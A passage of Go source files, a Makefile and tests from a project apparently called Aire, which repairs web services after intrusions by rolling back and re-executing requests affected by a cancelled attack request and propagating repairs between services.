		{warp.OutMsg{Kind: warp.OutReplaceResponse, NotifierURL: "aire://client/aire/notify"}, "client"},
		{warp.OutMsg{Kind: warp.OutReplaceResponse, NotifierURL: transport.PollNotifierURL("ui-7")}, "poll://ui-7"},
		{warp.OutMsg{Kind: warp.OutReplaceResponse, NotifierURL: "garbage"}, "garbage"},
	}
	for _, tc := range cases {
		if got := peerKey(tc.msg); got != tc.want {
			t.Errorf("peerKey(%v %q) = %q, want %q", tc.msg.Kind, tc.msg.NotifierURL, got, tc.want)
		}
	}
}
