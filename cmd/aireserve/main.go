// Command aireserve runs an Aire-enabled two-service testbed (a notes-like
// KV service mirrored to a feed service) over real HTTP sockets, so the
// repair protocol can be exercised with curl.
//
//	aireserve -a :8031 -b :8032
//
// Example session:
//
//	curl -XPOST 'http://localhost:8031/put?key=x&val=hello'   # mirrored to B
//	curl 'http://localhost:8032/get?key=x'
//	# repair: delete the put on A using the Aire-Request-Id header it returned
//	curl -XPOST http://localhost:8031/aire/repair \
//	     -H 'Aire-Repair: delete' -H "Aire-Request-Id: $ID"
//	curl 'http://localhost:8032/get?key=x'                    # gone within -pump-interval
//
// Outgoing repair queues are pumped continuously in the background (§3):
// each service's pump delivers to distinct peers concurrently, batches
// consecutive messages to the same peer, and retries unreachable peers with
// exponential backoff instead of parking their messages.
package main

import (
	"context"
	"encoding/json"
	"flag"
	"fmt"
	"log"
	"net/http"
	"os"
	"os/signal"
	"path/filepath"
	"syscall"
	"time"

	"aire"
	"aire/internal/harness"
	"aire/internal/obs"
	"aire/internal/persist"
	"aire/internal/transport"
	"aire/internal/wal"
)

// withDebug mounts the observability surfaces ahead of the wire handler:
// /aire/debug/metrics serves the registry as Prometheus text,
// /aire/debug/waves serves the reconstructed repair waves (max hop depth,
// per-hop latency; ?verbose=1 includes the raw spans) as JSON, and
// /aire/debug/vectors serves every service's sender-side anti-entropy
// vectors (acked prefix, frontier, outstanding deliveries, re-offer state
// per peer; empty with -vectors off). The registry is shared — metric names
// carry the service prefix — so either listener answers for the whole
// testbed.
func withDebug(reg *obs.Registry, ctrls map[string]*aire.Controller, h http.Handler) http.Handler {
	mux := http.NewServeMux()
	mux.Handle("/aire/debug/metrics", reg.Handler())
	mux.Handle("/aire/debug/waves", reg.WavesHandler())
	mux.HandleFunc("/aire/debug/vectors", func(w http.ResponseWriter, _ *http.Request) {
		dump := map[string][]aire.PeerVectorDump{}
		for name, c := range ctrls {
			dump[name] = c.VectorDump()
		}
		w.Header().Set("Content-Type", "application/json")
		enc := json.NewEncoder(w)
		enc.SetIndent("", "  ")
		enc.Encode(dump)
	})
	mux.Handle("/", h)
	return mux
}

func main() {
	addrA := flag.String("a", "127.0.0.1:8031", "listen address for service a")
	addrB := flag.String("b", "127.0.0.1:8032", "listen address for service b")
	workers := flag.Int("pump-workers", 4, "concurrent per-peer repair deliveries")
	batch := flag.Int("batch", 16, "max repair messages batched to one peer per pass")
	interval := flag.Duration("pump-interval", 100*time.Millisecond, "pacing of background pump passes")
	backoff := flag.Duration("backoff", 50*time.Millisecond, "base retry delay for unreachable peers (0 = park after max attempts)")
	backoffMax := flag.Duration("backoff-max", 5*time.Second, "cap on the exponential retry delay")
	vectors := flag.Bool("vectors", false, "enable the anti-entropy version-vector layer: carriers announce acked/frontier sequences, receivers compact dedup entries and NACK gaps, wholly-lost deliveries are re-offered without waiting out backoff")
	waldir := flag.String("waldir", "aireserve-data", `durable state directory (per-service WAL + checkpoints); "" disables durability`)
	fsync := flag.String("fsync", "every", "WAL fsync policy: every, interval, none")
	cpEvery := flag.Duration("checkpoint-interval", 30*time.Second, "how often each service checkpoints and truncates its WAL")
	flag.Parse()

	reg := obs.New(obs.DefaultRingCap)
	cfg := aire.DefaultConfig()
	cfg.Obs = reg
	cfg.PumpWorkers = *workers
	cfg.BatchSize = *batch
	cfg.PumpInterval = *interval
	if *backoff > 0 {
		cfg.Backoff = aire.Backoff{Base: *backoff, Max: *backoffMax, Factor: 2}
	}
	cfg.VersionVectors = *vectors

	caller := &transport.HTTPCaller{BaseURLs: map[string]string{
		"a": "http://" + *addrA,
		"b": "http://" + *addrB,
	}, Obs: reg}
	ctrlA := aire.NewServiceWithConfig(&harness.KVApp{ServiceName: "a", Mirror: "b"}, caller, cfg)
	ctrlB := aire.NewServiceWithConfig(&harness.KVApp{ServiceName: "b"}, caller, cfg)

	ctx, cancel := signal.NotifyContext(context.Background(), os.Interrupt, syscall.SIGTERM)
	defer cancel()

	// Recover durable state (and attach the WAL) before serving traffic: a
	// restarted aireserve resumes with its repair logs, versioned stores,
	// outgoing queues, and dedup inboxes intact, then checkpoints in the
	// background so the WAL stays bounded.
	if *waldir != "" {
		pol, err := wal.ParsePolicy(*fsync)
		if err != nil {
			log.Fatalf("aire: %v", err)
		}
		for _, s := range []struct {
			name string
			ctrl *aire.Controller
		}{{"a", ctrlA}, {"b", ctrlB}} {
			dir := filepath.Join(*waldir, s.name)
			w, err := persist.Recover(s.ctrl, dir, wal.Options{Policy: pol})
			if err != nil {
				log.Fatalf("aire: recover %s from %s: %v", s.name, dir, err)
			}
			name := s.name
			stopCp := persist.StartCheckpointer(ctx, s.ctrl, w, dir, *cpEvery, func(err error) {
				log.Printf("aire: checkpoint %s: %v", name, err)
			})
			defer stopCp()
			defer w.Close()
		}
		fmt.Printf("aire: durable state in %s (fsync=%s, checkpoint every %v)\n", *waldir, pol, *cpEvery)
	}

	ctrls := map[string]*aire.Controller{"a": ctrlA, "b": ctrlB}
	go func() {
		log.Fatal(http.ListenAndServe(*addrA, withDebug(reg, ctrls, transport.NewHTTPHandler(ctrlA))))
	}()
	go func() {
		log.Fatal(http.ListenAndServe(*addrB, withDebug(reg, ctrls, transport.NewHTTPHandler(ctrlB))))
	}()
	stopPumps, err := aire.StartPumps(ctx, ctrlA, ctrlB)
	if err != nil {
		log.Fatal(err)
	}
	defer stopPumps()

	fmt.Printf("aire: service a (mirrors to b) on http://%s\n", *addrA)
	fmt.Printf("aire: service b on http://%s\n", *addrB)
	fmt.Printf("aire: background repair pumps running (workers=%d batch=%d interval=%v backoff=%v)\n",
		*workers, *batch, *interval, *backoff)
	fmt.Println("aire: try POST /put?key=x&val=hello on a, then GET /get?key=x on b,")
	fmt.Println("aire: then POST /aire/repair with Aire-Repair: delete + Aire-Request-Id headers")
	fmt.Println("aire: observability at /aire/debug/metrics and /aire/debug/waves on either service")
	if *vectors {
		fmt.Println("aire: anti-entropy version vectors ON; per-peer state at /aire/debug/vectors")
	}
	<-ctx.Done()
	fmt.Println("aire: shutting down, draining repair pumps")
}
