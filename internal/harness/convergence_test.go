package harness

import (
	"fmt"
	"math/rand"
	"testing"
	"testing/quick"

	"aire/internal/core"
	"aire/internal/orm"
	"aire/internal/vdb"
	"aire/internal/web"
	"aire/internal/wire"
)

// convApp is a mirroring key-value service for convergence testing: every
// /put is forwarded to the mirror peer (if any); /get and /sum read state.
type convApp struct {
	name   string
	mirror string
}

func (a *convApp) Name() string                        { return a.name }
func (a *convApp) Authorize(ac core.AuthzRequest) bool { return true }

func (a *convApp) Register(svc *web.Service) {
	svc.Schema.Register("kv")
	svc.Router.Handle("POST", "/put", func(c *web.Ctx) wire.Response {
		if err := c.DB.Put("kv", c.Form("key"), orm.Fields("val", c.Form("val"))); err != nil {
			return c.Error(500, err.Error())
		}
		if a.mirror != "" {
			c.Call(a.mirror, wire.NewRequest("POST", "/put").
				WithForm("key", c.Form("key"), "val", c.Form("val")))
		}
		return c.OK("ok")
	})
	svc.Router.Handle("GET", "/get", func(c *web.Ctx) wire.Response {
		o, ok := c.DB.Get("kv", c.Form("key"))
		if !ok {
			return c.Error(404, "missing")
		}
		return c.OK(o.Get("val"))
	})
	svc.Router.Handle("GET", "/sum", func(c *web.Ctx) wire.Response {
		out := ""
		for _, o := range c.DB.List("kv") {
			out += o.ID + "=" + o.Get("val") + ";"
		}
		return c.OK(out)
	})
}

// convOp is one step of a random workload.
type convOp struct {
	kind byte   // 0 = put, 1 = get, 2 = sum
	key  uint8  // key index (small space to force conflicts)
	val  uint16 // value for puts
}

func buildConvWorld(cfg core.Config) (*Testbed, *core.Controller, *core.Controller) {
	tb := NewTestbed()
	a := tb.Add(&convApp{name: "a", mirror: "b"}, cfg)
	b := tb.Add(&convApp{name: "b"}, cfg)
	tb.FreezeTime(1_380_000_000)
	return tb, a, b
}

func runConvOp(tb *Testbed, op convOp) string {
	key := fmt.Sprintf("k%d", op.key%5)
	switch op.kind % 3 {
	case 0:
		resp := tb.Call("a", wire.NewRequest("POST", "/put").
			WithForm("key", key, "val", fmt.Sprint(op.val)))
		return resp.Header[wire.HdrRequestID]
	case 1:
		tb.Call("a", wire.NewRequest("GET", "/get").WithForm("key", key))
	default:
		tb.Call("a", wire.NewRequest("GET", "/sum"))
	}
	return ""
}

// stateOf flattens a service's live kv state.
func stateOf(c *core.Controller) map[string]string {
	out := map[string]string{}
	for _, id := range c.Svc.Store.IDs("kv") {
		v, ok := c.Svc.Store.Get(vdb.Key{Model: "kv", ID: id})
		if ok {
			out[id] = v.Fields["val"]
		}
	}
	return out
}

func equalState(x, y map[string]string) bool {
	if len(x) != len(y) {
		return false
	}
	for k, v := range x {
		if y[k] != v {
			return false
		}
	}
	return true
}

// checkConvergence runs ops in an attacked world (repairing op[attackIdx]
// afterwards) and in a golden world that never executed the attack, then
// compares final states of both services.
func checkConvergence(t *testing.T, ops []convOp, attackIdx int, cfg core.Config) bool {
	t.Helper()
	// Attacked world.
	tb1, a1, b1 := buildConvWorld(cfg)
	var attackID string
	for i, op := range ops {
		id := runConvOp(tb1, op)
		if i == attackIdx {
			attackID = id
		}
	}
	if attackID == "" {
		return true // the chosen attack op was a read; nothing to repair
	}
	if _, err := a1.ApplyLocal(cancelAction(attackID)); err != nil {
		t.Fatalf("repair: %v", err)
	}
	tb1.Settle(50)

	// Golden world: same ops minus the attack.
	tb2, a2, b2 := buildConvWorld(cfg)
	for i, op := range ops {
		if i == attackIdx {
			continue
		}
		runConvOp(tb2, op)
	}

	if !equalState(stateOf(a1), stateOf(a2)) {
		t.Logf("service a diverged: repaired=%v golden=%v ops=%+v attack=%d", stateOf(a1), stateOf(a2), ops, attackIdx)
		return false
	}
	if !equalState(stateOf(b1), stateOf(b2)) {
		t.Logf("service b diverged: repaired=%v golden=%v ops=%+v attack=%d", stateOf(b1), stateOf(b2), ops, attackIdx)
		return false
	}
	// And no repair messages left in flight.
	if tb1.QueuedMessages() != 0 {
		t.Logf("repair did not quiesce: %d messages", tb1.QueuedMessages())
		return false
	}
	return true
}

// TestConvergenceProperty is the §3.3 argument as a property test: for any
// workload of puts/gets/scans over a mirrored pair of services, cancelling
// any single put and letting repair propagate yields exactly the state of a
// timeline in which that put never happened.
func TestConvergenceProperty(t *testing.T) {
	cfg := core.DefaultConfig()
	f := func(raw []uint32, attackSel uint8) bool {
		if len(raw) == 0 {
			return true
		}
		if len(raw) > 40 {
			raw = raw[:40]
		}
		ops := make([]convOp, len(raw))
		for i, r := range raw {
			ops[i] = convOp{kind: byte(r), key: uint8(r >> 8), val: uint16(r >> 16)}
		}
		return checkConvergence(t, ops, int(attackSel)%len(ops), cfg)
	}
	if err := quick.Check(f, &quick.Config{MaxCount: 60}); err != nil {
		t.Fatal(err)
	}
}

// TestConvergenceConservativeEngine runs the same property under the
// conservative (key-level) dependency checking used as the ablation
// baseline: coarser re-execution must not change the converged state.
func TestConvergenceConservativeEngine(t *testing.T) {
	cfg := core.DefaultConfig()
	cfg.Engine.PreciseReadCheck = false
	const seed = 42
	rng := rand.New(rand.NewSource(seed))
	for trial := 0; trial < 25; trial++ {
		n := 5 + rng.Intn(25)
		ops := make([]convOp, n)
		for i := range ops {
			ops[i] = convOp{kind: byte(rng.Intn(3)), key: uint8(rng.Intn(5)), val: uint16(rng.Intn(1000))}
		}
		if !checkConvergence(t, ops, rng.Intn(n), cfg) {
			t.Fatalf("seed %d trial %d diverged", seed, trial)
		}
	}
}

// TestConvergenceMultipleRepairs cancels several puts in sequence; the
// final state must match a golden run without any of them.
func TestConvergenceMultipleRepairs(t *testing.T) {
	cfg := core.DefaultConfig()
	const seed = 7
	rng := rand.New(rand.NewSource(seed))
	for trial := 0; trial < 10; trial++ {
		n := 10 + rng.Intn(20)
		ops := make([]convOp, n)
		for i := range ops {
			ops[i] = convOp{kind: byte(rng.Intn(3)), key: uint8(rng.Intn(4)), val: uint16(rng.Intn(1000))}
		}
		cancelSet := map[int]bool{rng.Intn(n): true, rng.Intn(n): true}

		tb1, a1, b1 := buildConvWorld(cfg)
		ids := map[int]string{}
		for i, op := range ops {
			id := runConvOp(tb1, op)
			if cancelSet[i] && id != "" {
				ids[i] = id
			}
		}
		for _, id := range ids {
			if _, err := a1.ApplyLocal(cancelAction(id)); err != nil {
				t.Fatal(err)
			}
			tb1.Settle(50)
		}

		tb2, a2, b2 := buildConvWorld(cfg)
		for i, op := range ops {
			if ids[i] != "" {
				continue
			}
			runConvOp(tb2, op)
		}
		if !equalState(stateOf(a1), stateOf(a2)) || !equalState(stateOf(b1), stateOf(b2)) {
			t.Fatalf("seed %d trial %d diverged: a=%v/%v b=%v/%v", seed, trial, stateOf(a1), stateOf(a2), stateOf(b1), stateOf(b2))
		}
	}
}
