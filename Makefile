# Aire — asynchronous intrusion recovery for interconnected web services.
# CI (.github/workflows/ci.yml) runs exactly these targets; run `make ci`
# locally to reproduce the full gate.

GO ?= go

# Fault-injection simulation sweep (internal/simnet + cmd/airesim).
# SIM_SEEDS is "lo:hi" (inclusive) or "3,7,19"; SIM_PROFILE is one of
# `go run ./cmd/airesim -profiles` (drop, duplicate, delay, partition,
# crash, mixed, stale, dupcreate, lostwave, corrupt). CI runs a short
# fixed-seed matrix; longer local sweeps:
#   make sim SIM_PROFILE=mixed SIM_SEEDS=1:1000
# Anti-entropy teeth (ISSUE 9) — the lostwave curse without vectors:
#   go run ./cmd/airesim -profile lostwave -novectors -seeds 1:20 -expect-fail
SIM_SEEDS ?= 1:20
SIM_PROFILE ?= mixed
# SIM_SHARDS splits every faulted service N ways behind the key-hash
# router (ISSUE 10); the convergence oracle is shard-count-invariant.
SIM_SHARDS ?= 0

.PHONY: all build test race bench bench-json bench5 bench5-scale bench-obs fmt fmt-fix vet lint ci sim sim-sched durability fuzz-wal

all: build

build:
	$(GO) build ./...

test:
	$(GO) test ./...

race:
	$(GO) test -race ./...

# Bench smoke: compile and run every benchmark once (no timing fidelity —
# catches rot, not regressions). Full runs: go test -bench . -benchmem
bench:
	$(GO) test -bench . -benchtime 1x -run '^$$' ./...

# Machine-readable repair-scaling trajectory (ISSUE 4): indexed vs
# pre-index repair walk as unrelated traffic grows. CI uploads the JSON as
# a build artifact; regenerate the committed copy with this target.
bench-json:
	$(GO) run ./cmd/airebench -table bench4 -out BENCH_4.json

# Repair-plane-under-load measurement (ISSUE 7): closed-loop mixed
# workload (paced mirror puts + periodic repair cascades) over the real
# HTTP adapter with adaptive batching and admission control. CI runs a
# short non-gating pass and uploads the JSON; regenerate the committed
# copy with this target.
BENCH5_DUR ?= 5s
bench5:
	$(GO) run ./cmd/airebench -table bench5 -dur $(BENCH5_DUR) -out BENCH_5.json

# Hub shard-scaling table (ISSUE 10): the bench5 workload re-run unpaced
# once per shard count, with -opdelay modeling the blocking backend work
# held under each shard's service lock (so lock serialization — the thing
# sharding removes — is what the table measures, not the host's cores).
# Regenerates the committed BENCH_5.json.
bench5-scale:
	$(GO) run ./cmd/airebench -table bench5 -dur $(BENCH5_DUR) -rps -1 -clients 16 -shards 1,2,4 -opdelay 2ms -wal -out BENCH_5.json

# Observability overhead gate (ISSUE 8): the allocation ceiling — with no
# registry configured every instrumentation site must degenerate to a nil
# check (0 allocs/op, asserted hard by TestObsDisabledZeroAlloc) — plus
# the disabled-vs-enabled overhead benchmark for the record.
bench-obs:
	$(GO) test -run TestObsDisabledZeroAlloc ./internal/core
	$(GO) test -run '^$$' -bench BenchmarkObsOverhead -benchmem ./internal/core

fmt:
	@out="$$(gofmt -l .)"; \
	if [ -n "$$out" ]; then \
		echo "gofmt needed on:"; echo "$$out"; exit 1; \
	fi

fmt-fix:
	gofmt -w .

sim:
	$(GO) run ./cmd/airesim -profile $(SIM_PROFILE) -seeds $(SIM_SEEDS) -shards $(SIM_SHARDS)

# Crash-durability gate (ISSUE 6): WAL-backed profiles where every crash
# discards in-memory state and recovers from checkpoint + WAL replay.
# fsync=every + power loss must lose nothing; fsync=interval + process
# kill must still converge. Watch the gate's teeth with:
#   go run ./cmd/airesim -profile crash -seeds 1:20 -fsync none
durability:
	$(GO) run -race ./cmd/airesim -profile crash -seeds $(SIM_SEEDS)
	$(GO) run -race ./cmd/airesim -profile fsynclag -seeds $(SIM_SEEDS)

# WAL corruption + replay fuzzing smoke: deterministic corruption table
# (bit flips, truncations, zeroed CRCs, garbage appends) plus a short
# coverage-guided run over mutated segment bytes. Longer local runs:
#   go test -fuzz FuzzWALReplay -fuzztime 5m ./internal/wal
fuzz-wal:
	$(GO) test -run TestWALCorruption -fuzz FuzzWALReplay -fuzztime 30s ./internal/wal

# Same sweep with repair delivery on the background pump under the
# deterministic scheduler (internal/dsched): concurrent worker
# interleavings, seed-reproducible. A failing seed prints its step count;
# replay with: go run ./cmd/airesim -sched -profile <p> -seeds <seed> -v
sim-sched:
	$(GO) run ./cmd/airesim -sched -profile $(SIM_PROFILE) -seeds $(SIM_SEEDS) -shards $(SIM_SHARDS)

vet:
	$(GO) vet ./...

# Static analysis beyond vet. Both tools are optional locally (skipped
# with a notice when not installed — this repo adds no dependencies);
# CI installs pinned versions and runs them for real in the gate job.
lint:
	@if command -v staticcheck >/dev/null 2>&1; then \
		staticcheck ./...; \
	else \
		echo "lint: staticcheck not installed, skipping (CI runs it)"; \
	fi
	@if command -v govulncheck >/dev/null 2>&1; then \
		govulncheck ./...; \
	else \
		echo "lint: govulncheck not installed, skipping (CI runs it)"; \
	fi

ci: fmt vet lint build test race bench bench-obs
