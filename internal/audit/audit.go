// Package audit builds cross-request dependency graphs from a service's
// repair log.
//
// Aire expects the administrator to pinpoint the intrusion point using
// auditing or intrusion detection (§2). This package provides that tooling
// for Aire-enabled services: given the repair log, it reconstructs which
// requests influenced which — through database objects (write→read edges),
// model scans, and outgoing calls — so an administrator can inspect the
// blast radius of a suspect request before repairing it, and can trace an
// observed corruption back to candidate intrusion points.
package audit

import (
	"fmt"
	"sort"
	"strings"

	"aire/internal/repairlog"
	"aire/internal/vdb"
)

// EdgeKind classifies a dependency edge.
type EdgeKind string

// Edge kinds.
const (
	// EdgeData is a write→read dependency through an object: the source
	// wrote a version the destination read.
	EdgeData EdgeKind = "data"
	// EdgeScan is a write→scan dependency through a model: the source
	// wrote an object of a model the destination scanned after that write.
	EdgeScan EdgeKind = "scan"
	// EdgeCall is a request→outgoing-call dependency: the source request
	// issued a call to another service.
	EdgeCall EdgeKind = "call"
)

// Edge is one dependency between two logged requests (or from a request to
// a remote service for EdgeCall).
type Edge struct {
	From string
	To   string // request ID, or "target-service/remote-req-id" for calls
	Kind EdgeKind
	// Via names the object, model, or target service carrying the
	// dependency.
	Via string
}

// Graph is the dependency graph of one service's repair log.
type Graph struct {
	// Requests holds all request IDs in timeline order.
	Requests []string
	// Edges holds all dependency edges, deterministically ordered.
	Edges []Edge

	out map[string][]int // request -> indices into Edges
}

// Build constructs the dependency graph from a repair log.
//
// The construction is conservative in the same way Warp's dependency
// analysis is: a read of object O at time t depends on the latest write to
// O at or before t; a scan of model M depends on every write to M before
// the scan.
func Build(log *repairlog.Log) *Graph {
	recs := log.All()
	g := &Graph{out: make(map[string][]int)}

	// lastWrite tracks, per object, the (time-ordered) writers so far.
	type writeEvent struct {
		ts    int64
		reqID string
	}
	writers := make(map[vdb.Key][]writeEvent)
	modelWriters := make(map[string][]writeEvent)

	addEdge := func(e Edge) {
		g.out[e.From] = append(g.out[e.From], len(g.Edges))
		g.Edges = append(g.Edges, e)
	}

	for _, rec := range recs {
		g.Requests = append(g.Requests, rec.ID)
		if rec.Skipped {
			continue
		}
		// Data edges: the version a read observed names its writer.
		seen := make(map[string]bool)
		for _, rd := range rec.Reads {
			if rd.TS == 0 {
				continue // read miss
			}
			ws := writers[rd.Key]
			for i := len(ws) - 1; i >= 0; i-- {
				if ws[i].ts == rd.TS {
					if ws[i].reqID != rec.ID && !seen["d"+ws[i].reqID+rd.Key.String()] {
						seen["d"+ws[i].reqID+rd.Key.String()] = true
						addEdge(Edge{From: ws[i].reqID, To: rec.ID, Kind: EdgeData, Via: rd.Key.String()})
					}
					break
				}
				if ws[i].ts < rd.TS {
					break
				}
			}
		}
		// Scan edges: every prior writer of the model influences the scan.
		for _, sc := range rec.Scans {
			for _, w := range modelWriters[sc.Model] {
				if w.ts >= rec.TS || w.reqID == rec.ID {
					continue
				}
				key := "s" + w.reqID + sc.Model
				if !seen[key] {
					seen[key] = true
					addEdge(Edge{From: w.reqID, To: rec.ID, Kind: EdgeScan, Via: sc.Model})
				}
			}
		}
		// Record this request's writes.
		for _, wr := range rec.Writes {
			writers[wr.Key] = append(writers[wr.Key], writeEvent{ts: wr.TS, reqID: rec.ID})
			modelWriters[wr.Key.Model] = append(modelWriters[wr.Key.Model], writeEvent{ts: wr.TS, reqID: rec.ID})
		}
		// Call edges.
		for _, call := range rec.Calls {
			to := call.Target
			if call.RemoteReqID != "" {
				to = call.Target + "/" + call.RemoteReqID
			}
			addEdge(Edge{From: rec.ID, To: to, Kind: EdgeCall, Via: call.Target})
		}
	}
	return g
}

// Descendants returns every request (and remote call target) transitively
// influenced by the given request — the candidate blast radius an
// administrator reviews before invoking repair.
func (g *Graph) Descendants(reqID string) []string {
	visited := map[string]bool{}
	var walk func(id string)
	walk = func(id string) {
		for _, ei := range g.out[id] {
			e := g.Edges[ei]
			if visited[e.To] {
				continue
			}
			visited[e.To] = true
			walk(e.To)
		}
	}
	walk(reqID)
	out := make([]string, 0, len(visited))
	for id := range visited {
		out = append(out, id)
	}
	sort.Strings(out)
	return out
}

// Ancestors returns every request that transitively influenced the given
// request — tracing an observed corruption back toward candidate intrusion
// points.
func (g *Graph) Ancestors(reqID string) []string {
	// Build a reverse index lazily.
	in := make(map[string][]string)
	for _, e := range g.Edges {
		in[e.To] = append(in[e.To], e.From)
	}
	visited := map[string]bool{}
	var walk func(id string)
	walk = func(id string) {
		for _, from := range in[id] {
			if visited[from] {
				continue
			}
			visited[from] = true
			walk(from)
		}
	}
	walk(reqID)
	out := make([]string, 0, len(visited))
	for id := range visited {
		out = append(out, id)
	}
	sort.Strings(out)
	return out
}

// EdgesFrom returns the edges leaving a request.
func (g *Graph) EdgesFrom(reqID string) []Edge {
	out := make([]Edge, 0, len(g.out[reqID]))
	for _, ei := range g.out[reqID] {
		out = append(out, g.Edges[ei])
	}
	return out
}

// DOT renders the graph in Graphviz format. Requests in `highlight` are
// drawn filled (e.g. a suspect request and its descendants).
func (g *Graph) DOT(highlight map[string]bool) string {
	var b strings.Builder
	b.WriteString("digraph aire_deps {\n  rankdir=LR;\n  node [shape=box, fontsize=10];\n")
	for _, id := range g.Requests {
		attr := ""
		if highlight[id] {
			attr = ` style=filled fillcolor="#f4cccc"`
		}
		fmt.Fprintf(&b, "  %q [label=%q%s];\n", id, id, attr)
	}
	for _, e := range g.Edges {
		style := "solid"
		if e.Kind == EdgeScan {
			style = "dashed"
		} else if e.Kind == EdgeCall {
			style = "bold"
		}
		fmt.Fprintf(&b, "  %q -> %q [style=%s, label=%q, fontsize=8];\n", e.From, e.To, style, e.Via)
	}
	b.WriteString("}\n")
	return b.String()
}
