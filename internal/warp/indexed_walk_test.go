package warp

import (
	"fmt"
	"testing"

	"aire/internal/orm"
	"aire/internal/vdb"
	"aire/internal/web"
	"aire/internal/wire"
)

// scanRoutes is kvRoutes plus /sum (a scan reader) and /inc (a
// read-modify-write that chains write dependencies across requests).
func scanRoutes(svc *web.Service) {
	kvRoutes(svc)
	svc.Router.Handle("GET", "/sum", func(c *web.Ctx) wire.Response {
		out := ""
		for _, o := range c.DB.List("kv") {
			out += o.ID + "=" + o.Get("v") + ";"
		}
		return c.OK(out)
	})
	svc.Router.Handle("POST", "/inc", func(c *web.Ctx) wire.Response {
		v := "1"
		if o, ok := c.DB.Get("kv", c.Form("key")); ok {
			v = o.Get("v") + "+"
		}
		if err := c.DB.Put("kv", c.Form("key"), orm.Fields("v", v)); err != nil {
			return c.Error(500, err.Error())
		}
		return c.OK(v)
	})
}

// buildEquivalenceWorkload drives one rig through a workload mixing writes,
// point reads, scans, read-modify-write chains, and plenty of unrelated
// traffic; it returns the request IDs of the two attack writes.
func buildEquivalenceWorkload(t *testing.T, r *rig) (atk1, atk2 string) {
	t.Helper()
	a1 := r.handle(t, put("x", "evil"), false)
	a2 := r.handle(t, put("y", "worse"), false)
	r.handle(t, wire.NewRequest("GET", "/get").WithForm("key", "x"), false)
	r.handle(t, wire.NewRequest("POST", "/inc").WithForm("key", "x"), false)
	r.handle(t, wire.NewRequest("GET", "/sum"), false)
	for i := 0; i < 40; i++ {
		key := fmt.Sprintf("u%d", i)
		r.handle(t, put(key, "clean"), false)
		r.handle(t, wire.NewRequest("GET", "/get").WithForm("key", key), false)
	}
	r.handle(t, wire.NewRequest("POST", "/inc").WithForm("key", "x"), false)
	r.handle(t, wire.NewRequest("GET", "/sum"), false)
	return a1.ID, a2.ID
}

func snapshotRecords(t *testing.T, r *rig) map[string]string {
	t.Helper()
	out := map[string]string{}
	for _, rec := range r.svc.Log.All() {
		out[rec.ID] = fmt.Sprintf("skipped=%v gen=%d resp=%d/%s reads=%d scans=%d writes=%d",
			rec.Skipped, rec.RepairGen, rec.Resp.Status, rec.Resp.Body, len(rec.Reads), len(rec.Scans), len(rec.Writes))
	}
	return out
}

// TestIndexedWalkMatchesLinearReference repairs the same workload with the
// index-driven walk and with the retained full-timeline reference walk and
// requires identical results: the same records repaired, the same
// responses, the same store state, the same outgoing messages.
func TestIndexedWalkMatchesLinearReference(t *testing.T) {
	for _, precise := range []bool{true, false} {
		t.Run(fmt.Sprintf("precise=%v", precise), func(t *testing.T) {
			indexed := newRig(t, scanRoutes)
			linear := newRig(t, scanRoutes)
			linear.engine.Cfg.LinearScan = true
			indexed.engine.Cfg.PreciseReadCheck = precise
			linear.engine.Cfg.PreciseReadCheck = precise

			i1, i2 := buildEquivalenceWorkload(t, indexed)
			l1, l2 := buildEquivalenceWorkload(t, linear)
			if i1 != l1 || i2 != l2 {
				t.Fatalf("workloads diverged before repair: %s/%s vs %s/%s", i1, i2, l1, l2)
			}

			actions := func(a1, a2 string) []Action {
				return []Action{
					{Kind: CancelReq, ReqID: a1},
					{Kind: ReplaceReq, ReqID: a2, NewReq: put("y", "fixed")},
					{Kind: CreateReq, NewReq: put("z", "created"), BeforeID: a2},
				}
			}
			ri, err := indexed.engine.Repair(actions(i1, i2))
			if err != nil {
				t.Fatal(err)
			}
			rl, err := linear.engine.Repair(actions(l1, l2))
			if err != nil {
				t.Fatal(err)
			}

			if ri.RepairedRequests != rl.RepairedRequests || ri.RepairedModelOps != rl.RepairedModelOps {
				t.Fatalf("repair counts diverged: indexed %d/%d ops, linear %d/%d ops",
					ri.RepairedRequests, ri.RepairedModelOps, rl.RepairedRequests, rl.RepairedModelOps)
			}
			if ri.TotalRequests != rl.TotalRequests || ri.TotalModelOps != rl.TotalModelOps {
				t.Fatalf("totals diverged: indexed %d/%d, linear %d/%d",
					ri.TotalRequests, ri.TotalModelOps, rl.TotalRequests, rl.TotalModelOps)
			}
			if len(ri.Msgs) != len(rl.Msgs) || len(ri.CreatedIDs) != len(rl.CreatedIDs) {
				t.Fatalf("outputs diverged: %d msgs/%d created vs %d msgs/%d created",
					len(ri.Msgs), len(ri.CreatedIDs), len(rl.Msgs), len(rl.CreatedIDs))
			}

			si, sl := snapshotRecords(t, indexed), snapshotRecords(t, linear)
			if len(si) != len(sl) {
				t.Fatalf("log sizes diverged: %d vs %d", len(si), len(sl))
			}
			for id, v := range sl {
				if si[id] != v {
					t.Errorf("record %s diverged:\n  indexed: %s\n  linear:  %s", id, si[id], v)
				}
			}
			for _, id := range indexed.svc.Store.IDs("kv") {
				vi, _ := indexed.svc.Store.Get(vdb.Key{Model: "kv", ID: id})
				vl, ok := linear.svc.Store.Get(vdb.Key{Model: "kv", ID: id})
				if !ok || vi.Fields["v"] != vl.Fields["v"] {
					t.Errorf("store diverged at %s: indexed %q, linear %q (present=%v)", id, vi.Fields["v"], vl.Fields["v"], ok)
				}
			}
			if hi, hl := indexed.svc.Store.ScanHashAt("kv", 1<<62), linear.svc.Store.ScanHashAt("kv", 1<<62); hi != hl {
				t.Errorf("final scan fingerprints diverged: %#x vs %#x", hi, hl)
			}
		})
	}
}

// TestIndexedWalkRepairsCascades pins the rollback-redo cascade on the
// indexed walk: cancelling a write must re-execute the later
// read-modify-write of the same key, and transitively the scan readers.
func TestIndexedWalkRepairsCascades(t *testing.T) {
	r := newRig(t, scanRoutes)
	atk := r.handle(t, put("x", "evil"), false)
	r.handle(t, wire.NewRequest("POST", "/inc").WithForm("key", "x"), false)
	scan := r.handle(t, wire.NewRequest("GET", "/sum"), false)
	r.handle(t, put("unrelated", "ok"), false)

	res, err := r.engine.Repair([]Action{{Kind: CancelReq, ReqID: atk.ID}})
	if err != nil {
		t.Fatal(err)
	}
	// cancel + inc (write rolled back) + sum (membership changed); the
	// unrelated put is never visited, let alone repaired.
	if res.RepairedRequests != 3 {
		t.Fatalf("repaired %d requests, want 3", res.RepairedRequests)
	}
	scanRec, _ := r.svc.Log.Get(scan.ID)
	if want := "x=1;"; string(scanRec.Resp.Body) != want {
		t.Fatalf("scan response not repaired: got %q, want %q", scanRec.Resp.Body, want)
	}
